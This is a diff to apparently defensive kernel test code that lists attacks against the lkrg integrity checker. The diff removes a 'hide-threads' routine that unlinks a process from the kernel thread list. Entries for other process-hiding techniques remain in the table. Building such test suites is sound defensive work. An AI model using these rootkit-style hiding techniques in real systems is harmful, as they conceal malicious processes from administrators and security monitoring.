@@ -743,16 +743,6 @@ static int hide_from_tasks(struct task_struct *task, size_t field)
 	return 0;
 }
 
-static int hide_from_threads(struct task_struct *task, size_t field)
-{
-	struct list_head *const entry = &task->thread_node;
-
-	entry->prev->next = entry->next;
-	entry->next->prev = entry->prev;
-	INIT_LIST_HEAD(entry);
-	return 0;
-}
-
 static int hide_from_pid(struct task_struct *task, size_t field)
 {
 	static struct hlist_node *nowhere;
@@ -1188,7 +1178,6 @@ static const struct attack attacks[] = {
 	ATTACK("dumpable", make_dumpable, "own memory may be looked into"),
 	ATTACK("flags", set_private_flag, "own flags get a private mark"),
 	ATTACK("hide-tasks", hide_from_tasks, "off the list of tasks"),
-	ATTACK("hide-threads", hide_from_threads, "off the list of threads"),
 	ATTACK("hide-pid", hide_from_pid, "its pid leads nowhere"),
 	ATTACK("hide-idr", hide_from_idr, "its pid is not in the table"),
 	ATTACK("hide-record", hide_record, "its record off the list of lkrg"),
